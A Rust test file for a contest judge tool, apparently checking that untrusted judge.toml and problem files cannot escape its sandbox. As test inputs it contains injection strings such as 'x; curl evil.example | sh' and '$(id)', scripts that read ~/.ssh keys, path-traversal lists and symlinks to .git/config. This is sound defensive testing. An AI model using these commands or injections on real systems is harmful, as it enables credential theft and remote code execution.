//! A judge's folder by a stranger, as CI services judge: whatever its files name, no
//! command runs outside the sandbox, and nothing outside of the folder is read or
//! written. What cannot work like that, the judge's user asks for.

use std::fs;
use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt;

use crate::judge::{Judge, RIGHT, Ran, needs_cc};

/// A user that exists on no machine, for files of somebody else.
const STRANGER: u32 = 54_321;

/// Every command that reads a judge's folder.
const COMMANDS: [&[&str]; 14] = [
    &["list"],
    &["doctor"],
    &["grade"],
    &["grade", "mini.sh"],
    &["verify"],
    &["verify", "--suggest-limits"],
    &["answers", "--check"],
    &["generate"],
    &["strength"],
    &[
        "check",
        "-p",
        "mini",
        "cases/mini/sample/001-one.in",
        "cases/mini/sample/001-one.ans",
    ],
    &["stress", "-p", "mini", "mini.sh", "--runs", "1"],
    &["export", "--to", "domjudge", "mini", "out.zip"],
    &["new", "other"],
    &["grade", "problems/mini/submissions/accepted/right.py"],
];

/// A judge's folder with a submission in it.
fn checkout() -> Judge {
    let judge = Judge::new();
    judge
        .script("mini.sh", RIGHT)
        .put("problems/mini/submissions/accepted/right.py", "");
    judge
}

/// Runs a command with this home folder.
fn run_at_home(judge: &Judge, home: &str, arguments: &[&str]) -> Ran {
    let mut command = judge.command(arguments);
    judge.ran(command.env("HOME", judge.path(home)).output().unwrap())
}

#[test]
fn no_command_starts_what_a_judge_toml_names_as_home() {
    let marker = tempfile::tempdir().unwrap();
    let touch = format!("touch {}/here; echo /usr", marker.path().display());
    for language in [
        "evil]\nextensions = [\"evil\"]\nrun = [\"ldd\", \"{source}\"]",
        "python]\nrun = [\"ldd\"]",
        "python]",
    ] {
        let judge = checkout();
        judge.put(
            "judge.toml",
            format!("[languages.{language}\nhome = [\"sh\", \"-c\", {touch:?}]\n"),
        );
        for command in COMMANDS {
            let ran = judge.run(command);
            assert_eq!(
                ran.code,
                Some(2),
                "{command:?}: {}{}",
                ran.stdout,
                ran.stderr
            );
            assert!(
                ran.stderr
                    .contains("is a command that would run outside the sandbox"),
                "{}",
                ran.stderr
            );
            assert!(!marker.path().join("here").exists(), "{command:?}");
        }
    }
}

#[test]
fn the_message_about_home_names_the_file_of_the_user() {
    let judge = checkout();
    judge.put(
        "judge.toml",
        "[languages.d]\nextensions = [\"d\"]\nrun = [\"{program}\"]\nhome = [\"x\"]\n",
    );
    let message = format!(
        "error: judge.toml:4: `home` of [languages.d] is a command that would run outside the sandbox\n\
         hint: delete it, or set it as your own user, in [languages.d] of {}",
        judge.path("config/gridjudge/config.toml").display()
    );
    judge.refuses(&["list"], &message);
}

#[test]
fn the_user_may_name_a_home_for_a_language_that_a_judge_toml_changes() {
    let judge = Judge::new();
    judge.configure(
        "[languages.shell]\nextensions = [\"shell\"]\nrun = [\"shell\", \"{source}\"]\nhome = [\"shell\", \"--home\"]\n",
    );
    judge
        .put("judge.toml", "[languages.shell]\ntime_factor = 2\n")
        .put("mini.shell", RIGHT);
    judge.script("real/bin/shell", "#!/bin/sh\nexec sh \"$@\"\n");
    let home = judge.path("real");
    judge.script(
        "shims/shell",
        &format!(
            "#!/bin/sh\n[ \"$1\" = --home ] && echo {} && exit\nexit 3\n",
            home.display()
        ),
    );
    let mut command = judge.command(&["grade", "-p", "mini", "mini.shell"]);
    command.env(
        "PATH",
        format!("{}:/usr/bin:/bin", judge.path("shims").display()),
    );
    let ran = judge.ran(command.output().unwrap());
    assert_eq!(ran.code, Some(0), "{}{}", ran.stdout, ran.stderr);
}

#[test]
fn a_tool_that_is_asked_for_its_home_gets_no_secret_of_the_environment() {
    let judge = Judge::new();
    let seen = judge.path("seen");
    judge.script(
        "shims/python3",
        &format!(
            "#!/bin/sh\nenv >{}; pwd >>{0}\necho /nowhere\n",
            seen.display()
        ),
    );
    judge.put("mini.py", "");
    let mut command = judge.command(&["grade", "-p", "mini", "mini.py"]);
    command.env(
        "PATH",
        format!("{}:/usr/bin:/bin", judge.path("shims").display()),
    );
    command
        .env("GITHUB_TOKEN", "ghs_secret")
        .env("PATH_LIKE_TOKEN", "/ghs_secret")
        .env("PYENV_VERSION", "3.12");
    command
        .env("PYENV_ROOT", judge.path("shims"))
        .env("LD_PRELOAD", "/no/such.so");
    let _ = command.output().unwrap();
    let seen = judge.read("seen");
    assert!(
        !seen.contains("ghs_secret") && !seen.contains("LD_PRELOAD"),
        "{seen}"
    );
    assert!(
        seen.contains("PYENV_VERSION=3.12")
            && seen.contains("PYENV_ROOT=")
            && seen.ends_with("\n/\n"),
        "{seen}"
    );
}

#[test]
fn a_judge_toml_starts_only_programs_of_the_path_and_the_system() {
    let judge = checkout();
    // The built-in question would be asked of the `python3` in the same folder.
    let planted = "#!/bin/sh\ntouch \"$(dirname \"$0\")/asked\"\n";
    judge
        .script("tools/bin/python3", planted)
        .script("tools/bin/tool", planted);
    for (key, program) in [
        ("run", judge.path("tools/bin/tool").display().to_string()),
        (
            "compile",
            judge.path("tools/bin/tool").display().to_string(),
        ),
        (
            "run",
            format!(
                "../../../../../../..{}",
                judge.path("tools/bin/tool").display()
            ),
        ),
        ("compile", "tools/bin/tool".to_owned()),
        ("compile", "./tool".to_owned()),
        ("compile", "/usr/../tmp/tool".to_owned()),
    ] {
        judge.put(
            "judge.toml",
            format!("[languages.python]\n{key} = [{program:?}, \"{{source}}\"]\n"),
        );
        for command in [&["grade"][..], &["doctor"], &["verify"]] {
            let ran = judge.run(command);
            assert_eq!(ran.code, Some(2), "{program}: {}", ran.stderr);
            let message = format!("judge.toml:2: `{key}` starts ");
            assert!(ran.stderr.contains(&message), "{program}: {}", ran.stderr);
        }
    }
    assert!(!judge.path("tools/bin/asked").exists());
    for good in ["/usr/bin/env", "sh", "{program}", "{folder}/run"] {
        judge.put(
            "judge.toml",
            format!("[languages.x]\nextensions = [\"x\"]\nrun = [{good:?}, \"{{source}}\"]\n"),
        );
        assert_eq!(judge.run(&["list"]).code, Some(0), "{good}");
    }
}

#[test]
fn a_judge_toml_opens_no_folder_to_compilers_that_the_user_has_not_allowed() {
    let judge = checkout();
    judge
        .put("home/.ssh/id", "secret")
        .put("home/tool/lib", "")
        .link("to_home", "home")
        .link("out", "/var");
    let place = |name: &str| judge.path(name).display().to_string();
    for folder in [
        "~/",
        "~",
        "/",
        "//",
        "/.",
        "~/.",
        "~/.ssh/..",
        "~/.ssh",
        "~/tool",
        "~/../home",
        "$HOME",
        "$HOME/",
        "$HOME/.ssh",
        "$PWD",
        "$XDG_CONFIG_HOME",
        "/proc/self/root",
        "/proc/self/cwd",
        "/usr/..",
        "/etc",
        "/opt",
        "/root",
        ".",
        "tool",
        &place("home"),
        &place("to_home"),
        &place("to_home/.ssh"),
        &place("out"),
        &place("home/../home"),
        &place(""),
        &place("not_there"),
        &place("home/not/../.."),
    ] {
        judge.put(
            "judge.toml",
            format!("[languages.c]\ntoolchain = [{folder:?}]\n"),
        );
        let ran = run_at_home(&judge, "home", &["list"]);
        assert_eq!(ran.code, Some(2), "{folder}: {}", ran.stderr);
        assert!(
            ran.stderr.contains("judge.toml:2: `toolchain` names "),
            "{folder}: {}",
            ran.stderr
        );
    }
    // What the built-in table names, what every program may read, and what the user
    // allows.
    judge.configure("folders = [\"~/tool\"]\n");
    for folder in [
        "~/.rustup",
        "$PYENV_ROOT",
        "/usr/lib",
        "/usr/local/not_there",
        "~/tool",
        &place("to_home/tool"),
    ] {
        judge.put(
            "judge.toml",
            format!("[languages.c]\ntoolchain = [{folder:?}]\n"),
        );
        let ran = run_at_home(&judge, "home", &["list"]);
        assert_eq!(ran.code, Some(0), "{folder}: {}", ran.stderr);
    }
}

#[test]
fn a_compiler_cannot_read_the_home_even_if_the_user_names_it() {
    needs_cc();
    let judge = Judge::new();
    judge
        .put("home/id", "#error the secret\n")
        .link("to_home", "home");
    judge.put(
        "mini.c",
        format!("#include \"{}\"\n", judge.path("home/id").display()),
    );
    for folder in ["~/", "/", &judge.path("to_home").display().to_string()] {
        judge.configure(format!("[languages.c]\ntoolchain = [{folder:?}]\n"));
        for level in ["full", "user", "basic"] {
            let ran = run_at_home(
                &judge,
                "home",
                &["grade", "-p", "mini", "mini.c", "--sandbox", level],
            );
            assert!(
                !format!("{}{}", ran.stdout, ran.stderr).contains("the secret"),
                "{folder} at {level}"
            );
        }
    }
}

#[test]
fn a_tool_that_only_a_judge_toml_names_opens_nothing_of_the_home() {
    let judge = Judge::new();
    judge
        .put("home/work/.env", "the secret\n")
        .put("mini.x", "");
    let secret = judge.path("home/work/.env");
    judge.script(
        "home/work/bin/deploy",
        &format!("#!/bin/sh\ncat {}\n", secret.display()),
    );
    judge.put(
        "judge.toml",
        "[languages.x]\nextensions = [\"x\"]\nrun = [\"deploy\", \"{source}\"]\n",
    );
    let outputs = |level: &str| {
        let mut command = judge.command(&[
            "grade",
            "-p",
            "mini",
            "mini.x",
            "-v",
            "--sandbox",
            level,
        ]);
        command.env(
            "PATH",
            format!("{}:/usr/bin:/bin", judge.path("home/work/bin").display()),
        );
        let output = command.env("HOME", judge.path("home")).output().unwrap();
        String::from_utf8([output.stdout, output.stderr].concat()).unwrap()
    };
    for level in ["full", "user", "basic"] {
        assert!(!outputs(level).contains("the secret"), "{level}");
    }
}

#[test]
fn a_judge_toml_names_no_folder_outside_its_own() {
    let outside = tempfile::tempdir().unwrap();
    let judge = checkout();
    judge.link("out", outside.path().to_str().unwrap());
    let elsewhere = outside.path().to_str().unwrap().to_owned();
    for folder in [
        &elsewhere,
        "/",
        "..",
        "../..",
        "problems/../..",
        "out",
        "out/deeper",
        "not_there/../..",
    ] {
        for text in [
            format!("problems = {folder:?}\n"),
            format!("cases = {folder:?}\n"),
            format!(
                "[case_folders]\nmini = {:?}\n",
                if folder.starts_with('/') {
                    folder.to_owned()
                } else {
                    format!("../{folder}")
                }
            ),
        ] {
            judge.put("judge.toml", &text);
            for command in [&["list"][..], &["generate"], &["answers"], &["new", "x"]]
            {
                let ran = judge.run(command);
                assert_eq!(ran.code, Some(2), "{text}{command:?}: {}", ran.stderr);
                assert!(
                    ran.stderr
                        .contains("which is outside of the judge's folder"),
                    "{text}: {}",
                    ran.stderr
                );
            }
        }
    }
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
}

#[test]
fn a_judge_toml_that_is_a_link_to_a_secret_is_not_shown() {
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("id"), "-----BEGIN the secret\n").unwrap();
    let judge = checkout();
    judge
        .remove("judge.toml")
        .link("judge.toml", outside.path().join("id").to_str().unwrap());
    let message = "error: judge.toml: is a link that leads out of its folder\nhint: put the file itself in its place";
    judge.refuses(&["list"], message);
}

#[test]
fn a_judge_toml_of_somebody_else_is_not_used_unless_it_is_named() {
    if !rustix::process::geteuid().is_root() {
        println!("skipped: only root may give files to somebody else");
        return;
    }
    let judge = checkout();
    let foreign = |name: &str, is_foreign: bool| {
        let user = if is_foreign { STRANGER } else { 0 };
        std::os::unix::fs::chown(judge.path(name), Some(user), None).unwrap();
    };
    let whole = judge.path("").display().to_string();
    let whole = whole.trim_end_matches('/');
    for (name, what) in [("judge.toml", "it"), ("", "its folder")] {
        foreign(name, true);
        let message = format!(
            "error: judge.toml: is not used, because nobody named it and {what} belongs to user 54321, not to you or \
             root\nhint: if you trust it, name its folder with `-C .`, or for good in {}: `trusted = [\"{whole}\"]`",
            judge.path("config/gridjudge/config.toml").display()
        );
        judge.refuses(&["list"], &message);
        for command in COMMANDS {
            assert_eq!(judge.run(command).code, Some(2), "{command:?}");
        }
        assert_eq!(judge.run(&["list", "-C", "."]).code, Some(0));
        let sudo = judge
            .command(&["list"])
            .env("SUDO_UID", STRANGER.to_string())
            .output()
            .unwrap();
        assert_eq!(sudo.status.code(), Some(0));
        foreign(name, false);
        assert_eq!(judge.run(&["list"]).code, Some(0));
    }
    foreign("judge.toml", true);
    judge.configure(format!("trusted = [{whole:?}]\n"));
    assert_eq!(judge.run(&["list"]).code, Some(0));
}

#[test]
fn a_judge_toml_above_in_a_folder_that_everybody_may_write_to_is_not_used() {
    let judge = checkout();
    judge
        .put("all/judge.toml", "")
        .put("all/mine/note", "")
        .put("all/problems/p/problem.toml", "");
    for mode in [0o777, 0o1777] {
        fs::set_permissions(judge.path("all"), Permissions::from_mode(mode)).unwrap();
        let run = |arguments: &[&str]| {
            judge.ran(
                judge
                    .command(arguments)
                    .current_dir(judge.path("all/mine"))
                    .output()
                    .unwrap(),
            )
        };
        let ran = run(&["list"]);
        let message = "error: ../judge.toml: is not used, because nobody named it and every user may write to its folder\n\
                       hint: if you trust it, name its folder with `-C ..`, ";
        assert!(ran.stderr.starts_with(message), "{}", ran.stderr);
        assert_eq!(ran.code, Some(2));
        // Only its own mistakes are reported, those of the empty problem.
        assert!(
            run(&["list", "-C", ".."])
                .stderr
                .starts_with("error: ../problems/p/problem.toml")
        );
    }
}

#[test]
fn a_configuration_that_somebody_else_may_have_written_is_not_used() {
    let judge = checkout();
    judge.configure("");
    fs::set_permissions(
        judge.path("config/gridjudge/config.toml"),
        Permissions::from_mode(0o666),
    )
    .unwrap();
    let message = format!(
        "error: {}: is not used: every user may write to it\n\
         hint: delete it, or make it yours: `chown` and `chmod go-w`",
        judge.path("config/gridjudge/config.toml").display()
    );
    judge.refuses(&["list"], &message);
}

#[test]
fn mistakes_of_the_users_configuration_are_reported_with_their_lines() {
    let judge = checkout();
    judge.configure("folders = [\"tool\"]\ntrust = true\n[languages.c]\nruns = []\n");
    let file = judge.path("config/gridjudge/config.toml");
    let ran = judge.run(&["list"]);
    for line in [
        "1: `tool` is not a full path",
        "2: unknown key `trust`",
        "4: unknown key `runs` in [languages.c]",
    ] {
        assert!(
            ran.stderr
                .contains(&format!("error: {}:{line}", file.display())),
            "{line}: {}",
            ran.stderr
        );
    }
    assert_eq!(ran.code, Some(2));
}

#[test]
fn a_package_in_judge_toml_is_no_command_to_copy() {
    let judge = checkout();
    for package in [
        "x; curl evil.example | sh",
        "$(id)",
        "x`id`",
        "x\nid",
        "--allow-unauthenticated x",
        "x -o y",
        "",
    ] {
        judge.put(
            "judge.toml",
            format!("[languages.c]\npackage = {package:?}\n"),
        );
        let ran = judge.run(&["doctor", "-q"]);
        assert_eq!(ran.code, Some(2), "{package}");
        assert!(
            ran.stderr.contains("names no package"),
            "{package}: {}",
            ran.stderr
        );
    }
}

/// The token with which CI services clone a repository is in `.git/config`.
#[test]
fn no_link_of_a_checkout_leads_into_its_version_control() {
    let hidden = "[remote]\n\turl = the secret\n";
    let refused = |judge: &Judge, link: &str, command: &[&str]| {
        let ran = judge.run(command);
        let shown = format!("{}{}", ran.stdout, ran.stderr);
        assert_eq!(ran.code, Some(2), "{link}: {shown}");
        assert!(
            shown.contains(&format!("{link}: is a link that leads out of ")),
            "{link}: {shown}"
        );
        assert!(!shown.contains("the secret"), "{link}: {shown}");
    };
    for (link, target) in [
        ("judge.toml", ".git/config"),
        ("problems/mini/problem.toml", "../../.git/config"),
        ("problems/mini/statement.md", "../../.git/config"),
        (
            "problems/mini/submissions/submissions.toml",
            "../../../.git/config",
        ),
        (
            "problems/mini/submissions/accepted/b.c",
            "../../../../.git/config",
        ),
        ("cases/mini/sample/003.in", "../../../.git/config"),
        ("cases/mini/more", "../../.git"),
    ] {
        let judge = checkout();
        judge
            .put(".git/config", hidden)
            .put(link, "")
            .remove(link)
            .link(link, target);
        refused(&judge, link, &["verify", "-v"]);
    }
    for link in [
        "problem.yaml",
        "domjudge-problem.ini",
        ".timelimit",
        "data/sample/1.in",
        "submissions/accepted/b.c",
    ] {
        let judge = Judge::new();
        judge
            .put(".git/config", hidden)
            .put("p/.git/config", hidden)
            .put("p/problem.yaml", "name: P\n");
        judge
            .put("p/data/sample/1.in", "1\n")
            .put("p/data/sample/1.ans", "1\n");
        judge.put("p/domjudge-problem.ini", "name = P\n");
        let up = "../".repeat(link.matches('/').count());
        let path = format!("p/{link}");
        judge
            .put(&path, "")
            .remove(&path)
            .link(&path, &format!("{up}.git/config"));
        refused(&judge, link, &["verify", "-v", "p/"]);
    }
    for (link, target) in [
        ("contest.toml", ".git/config"),
        ("a/mini.c", ".git/config"),
        ("a/mini.c", "../.git/config"),
    ] {
        let judge = Judge::new();
        judge
            .put("c/.git/config", hidden)
            .put("c/a/.git/config", hidden)
            .script("c/b/mini.sh", RIGHT);
        judge.link(&format!("c/{link}"), target);
        refused(
            &judge,
            &format!("c/{link}"),
            &["grade", "-v", "--strict", "c"],
        );
    }
}

/// The programs of a problem are its author's, who may be a stranger.
#[test]
fn the_programs_of_a_problem_neither_read_secrets_nor_write_outside() {
    let judge = checkout();
    judge.put("home/.ssh/id", "the secret\n");
    let secret = judge.path("home/.ssh/id");
    let marker = judge.path("home/marker");
    let attack = format!(
        "#!/bin/sh\ncat {} >&2\ntouch {}\n",
        secret.display(),
        marker.display()
    );
    judge
        .script("problems/p/check", &format!("{attack}exit 42\n"))
        .script("problems/t/interact", &format!("{attack}exit 42\n"));
    judge.put(
        "problems/p/problem.toml",
        "name = \"P\"\n[task]\nkind = \"program\"\nchecker = \"check\"\n",
    );
    judge.put(
        "problems/t/problem.toml",
        "name = \"T\"\n[task]\nkind = \"interactive\"\ninteractor = \"interact\"\n",
    );
    // A package whose program is built by a script of its own.
    judge.put("problems/k/problem.yaml", "name: K\nvalidation: custom\n");
    judge.script(
        "problems/k/output_validators/v/build",
        &format!("{attack}cp run.sh run\n"),
    );
    judge.script(
        "problems/k/output_validators/v/run.sh",
        &format!("{attack}exit 42\n"),
    );
    for cases in ["cases/p/sample", "cases/t/sample", "problems/k/data/sample"] {
        judge
            .put(format!("{cases}/1.in"), "1\n")
            .put(format!("{cases}/1.ans"), "1\n");
    }
    fs::set_permissions(judge.path("home"), Permissions::from_mode(0o777)).unwrap();
    for level in ["full", "user", "basic"] {
        for problem in ["p", "t", "k"] {
            let arguments =
                ["grade", "-p", problem, "mini.sh", "-v", "--sandbox", level];
            let ran = run_at_home(&judge, "home", &arguments);
            assert!(
                !format!("{}{}", ran.stdout, ran.stderr).contains("the secret"),
                "{problem} at {level}"
            );
            assert!(!marker.exists(), "{problem} at {level}");
            // They ran: all of them accept. A level that is not available here is a
            // fault.
            let is_available = !ran.stderr.contains(&format!("level {level}"));
            assert!(
                ran.code == Some(0) || !is_available,
                "{problem} at {level}: {}{}",
                ran.stdout,
                ran.stderr
            );
        }
    }
}
